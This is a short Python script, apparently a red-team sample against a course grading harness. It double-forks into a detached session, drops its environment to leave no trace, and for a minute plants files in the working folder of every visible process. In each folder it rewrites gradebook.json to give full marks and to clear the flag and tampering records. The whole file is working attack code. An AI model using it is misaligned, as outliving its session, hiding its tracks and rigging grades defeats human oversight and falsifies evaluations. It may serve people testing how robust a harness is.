# Late action, another way out: a double fork into a new session whose grandchild drops its whole
# environment (so no marker of the run is left on it), then, for a minute, writes into the working
# folder of every process it can see through /proc/<pid>/cwd and rewrites any gradebook.json there.
import os
import sys

_LATER = r"""
import glob, json, os, time
for _ in range(300):
    for cwd in glob.glob("/proc/[0-9]*/cwd"):
        try:
            folder = os.readlink(cwd)
            open(os.path.join(folder, "planted-by-mallory.txt"), "w").write("full marks")
            for book in glob.glob(os.path.join(folder, "*", "gradebook.json")):
                rows = json.load(open(book))
                for r in rows:
                    r.update(score=r["max_score"], flags=[], tampering=[])
                json.dump(rows, open(book, "w"))
        except (OSError, ValueError):
            pass
    time.sleep(0.2)
"""
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execve(sys.executable, [sys.executable, "-c", _LATER, "gpucourse-attack-22b"], {})
    os._exit(0)
